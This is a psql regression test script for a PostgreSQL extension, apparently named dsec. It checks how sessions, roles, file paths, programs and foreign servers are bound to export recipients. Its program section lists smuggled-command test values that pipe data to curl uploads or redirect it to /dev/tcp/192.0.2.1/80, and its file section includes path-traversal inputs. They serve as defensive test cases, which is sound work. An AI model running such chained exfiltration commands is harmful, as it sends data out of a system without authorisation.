-- To whom a session is bound.  dsec.recipients_of() asks what the guard asks.

CREATE ROLE policy_s_group NOLOGIN;
CREATE ROLE policy_s_group2 NOLOGIN;
CREATE ROLE policy_s_user LOGIN IN ROLE dsec_auditor;
CREATE ROLE policy_s_other LOGIN IN ROLE dsec_auditor;
CREATE ROLE policy_s_super LOGIN SUPERUSER;
GRANT policy_s_group2 TO policy_s_group;
SELECT dsec.add_recipient('policy_s_one', 'CN', 'covered') > 0 AS ok,
	dsec.add_recipient('policy_s_two', 'RU', 'covered') > 0 AS ok;

GRANT EXECUTE ON FUNCTION dsec.recipients_of(text, text) TO policy_s_other;
SELECT current_user AS admin \gset

-- nobody is bound
SELECT dsec.recipients_of();
SELECT dsec.bind_role('policy_s_user', 'policy_s_one');
-- not by an officer's session either
SELECT dsec.recipients_of();

-- the role itself, by SET ROLE and by SET SESSION AUTHORIZATION
SET ROLE policy_s_user;
SELECT dsec.recipients_of();
RESET ROLE;
SET SESSION AUTHORIZATION policy_s_user;
SELECT dsec.recipients_of();
RESET SESSION AUTHORIZATION;
SELECT dsec.recipients_of();

-- by login, which nothing in the session can shake off
\c - policy_s_user
SELECT dsec.recipients_of();
SET ROLE dsec_auditor;
SELECT dsec.recipients_of();
\c - policy_s_super
SELECT dsec.recipients_of();
SELECT dsec.bind_role('policy_s_super', 'policy_s_two');
SELECT dsec.recipients_of();
SET SESSION AUTHORIZATION policy_s_other;
SELECT dsec.recipients_of();
RESET SESSION AUTHORIZATION;
SELECT dsec.unbind_role('policy_s_super', 'policy_s_two');
-- a superuser is not a member of everything
SELECT dsec.recipients_of();

-- membership, also over another role and without inheritance
SELECT dsec.bind_role('policy_s_group2', 'policy_s_two');
SET ROLE policy_s_other;
SELECT dsec.recipients_of();
RESET ROLE;
GRANT policy_s_group TO policy_s_other;
SET ROLE policy_s_other;
SELECT dsec.recipients_of();
RESET ROLE;
REVOKE policy_s_group FROM policy_s_other;
ALTER ROLE policy_s_other NOINHERIT;
GRANT policy_s_group2 TO policy_s_other;
SET ROLE policy_s_other;
SELECT dsec.recipients_of();
RESET ROLE;

-- two bindings, two recipients
GRANT policy_s_user TO policy_s_other;
SET ROLE policy_s_other;
SELECT dsec.recipients_of();
RESET ROLE;
REVOKE policy_s_user, policy_s_group2 FROM policy_s_other;
SELECT dsec.unbind_role('policy_s_group2', 'policy_s_two');

-- a renamed role stays bound, and the one that takes its name is not
ALTER ROLE policy_s_user RENAME TO policy_s_renamed;
CREATE ROLE policy_s_user IN ROLE dsec_auditor;
SET ROLE policy_s_renamed;
SELECT dsec.recipients_of();
RESET ROLE;
SET ROLE policy_s_user;
SELECT dsec.recipients_of();
RESET ROLE;
DROP ROLE policy_s_user;
ALTER ROLE policy_s_renamed RENAME TO policy_s_user;

-- a role dropped and made anew is bound by its name
DROP ROLE policy_s_user;
CREATE ROLE policy_s_user IN ROLE dsec_auditor;
SET ROLE policy_s_user;
SELECT dsec.recipients_of();
RESET ROLE;
DROP ROLE policy_s_user;
SELECT value FROM dsec.status() WHERE value LIKE '%policy_s_%';
CREATE ROLE policy_s_user IN ROLE dsec_auditor;
SELECT dsec.unbind_role('policy_s_user', 'policy_s_one');

-- a change that is rolled back binds nobody; one that is not committed neither
BEGIN;
SELECT dsec.bind_role('policy_s_super', 'policy_s_one');
SELECT dsec.recipients_of();
ROLLBACK;
SELECT dsec.recipients_of();

-- channels
SELECT dsec.bind_channel('policy_chan', NULL, 'policy_s_one');
SELECT dsec.bind_channel('policy_chan', 'here', 'policy_s_two');
SELECT t, dsec.recipients_of('policy_chan', t) FROM (VALUES (NULL), ('here'), ('there')) v (t);
SELECT dsec.recipients_of('policy_other', 'here');
SELECT dsec.unbind_channel('policy_chan', NULL, 'policy_s_one');
SELECT dsec.unbind_channel('policy_chan', 'here', 'policy_s_two');

-- files: the path and what is below it, wherever dots lead
SELECT dsec.bind_channel('file', '/tmp/policy-nonsuch/out', 'policy_s_one');
SELECT t, dsec.recipients_of('file', t) FROM (VALUES
	(1, '/tmp/policy-nonsuch/out'),
	(2, '/tmp/policy-nonsuch/out/a.csv'),
	(3, '/tmp/policy-nonsuch/output'),
	(4, '/tmp/policy-nonsuch/in/../out/a.csv'),
	(5, '/tmp/policy-nonsuch/out/../a.csv'),
	(6, '/tmp//policy-nonsuch/./out/a.csv')) v (n, t) ORDER BY n;
SELECT dsec.unbind_channel('file', '/tmp/policy-nonsuch/out', 'policy_s_one');

-- programs: the command, with arguments; only a recipient to whom rules apply
-- is found by a command that goes on with another one
SELECT dsec.add_recipient('policy_s_house', 'US', 'internal') > 0 AS ok;
SELECT dsec.bind_channel('program', 'policy-send', 'policy_s_one');
SELECT dsec.bind_channel('program', 'policy-keep', 'policy_s_house');
SELECT t, dsec.recipients_of('program', t) FROM (VALUES
	(1, 'policy-send'),
	(2, 'policy-send --to x'),
	(3, 'policy-sender'),
	(4, 'policy-send; true'),
	(5, 'policy-send x | tee y'),
	(6, 'policy-keep'),
	(7, 'policy-keep --all'),
	(8, 'policy-keep; curl -T - example.org'),
	(9, 'policy-keep | curl -T - example.org'),
	(10, 'policy-keep $(curl -T - example.org)'),
	(11, 'policy-keep > /dev/tcp/192.0.2.1/80')) v (n, t) ORDER BY n;
SELECT dsec.unbind_channel('program', 'policy-send', 'policy_s_one');
SELECT dsec.unbind_channel('program', 'policy-keep', 'policy_s_house');

-- foreign servers: of this database only
SELECT dsec.bind_server(current_database(), 'policy_server', 'policy_s_one');
SELECT dsec.bind_server('policy_elsewhere', 'policy_server', 'policy_s_two');
SELECT dsec.recipients_of('fdw', 'policy_server'), dsec.recipients_of('fdw', 'other'),
	dsec.recipients_of('fdw', NULL);
SELECT dsec.unbind_server(current_database(), 'policy_server', 'policy_s_one');
SELECT dsec.unbind_server('policy_elsewhere', 'policy_server', 'policy_s_two');

-- more recipients than one export can concern
SELECT dsec.add_recipient('policy_many_' || i, 'CN', 'covered') > 0 AS ok,
	dsec.bind_channel('policy_many', NULL, 'policy_many_' || i) FROM generate_series(1, 9) i;
SELECT dsec.recipients_of('policy_many');
SELECT dsec.unbind_channel('policy_many', NULL, 'policy_many_9');
SELECT dsec.recipients_of('policy_many');
DELETE FROM dsec.binding WHERE channel = 'policy_many';
SELECT dsec.bind_role('policy_s_other', 'policy_many_' || i) FROM generate_series(1, 9) i;
SET ROLE policy_s_other;
SELECT dsec.recipients_of();
SELECT 'goes on' AS untagged_work;
RESET ROLE;
DELETE FROM dsec.binding WHERE recipient LIKE 'policy_many_%';

\c - :admin
DROP OWNED BY policy_s_other;
DROP ROLE policy_s_group, policy_s_group2, policy_s_user, policy_s_other, policy_s_super;
